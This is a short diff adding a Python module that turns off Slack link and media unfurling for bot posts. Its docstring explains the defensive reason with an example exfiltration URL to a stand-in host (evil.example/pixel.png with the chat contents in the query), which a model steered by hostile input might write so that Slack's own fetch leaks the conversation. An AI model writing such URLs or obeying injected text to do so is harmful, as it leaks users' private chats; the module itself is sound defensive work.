@@ -1,0 +1,9 @@
+"""A bot post unfurls nothing: Slack's servers fetch a posted link to unfurl it (media
+links by default), with no one clicking, so a model steered into writing
+``https://evil.example/pixel.png?d=<what the chat said>`` would leak it on its own."""
+
+from __future__ import annotations
+
+from typing import Any
+
+NO_UNFURLS: dict[str, Any] = {"unfurl_links": False, "unfurl_media": False}
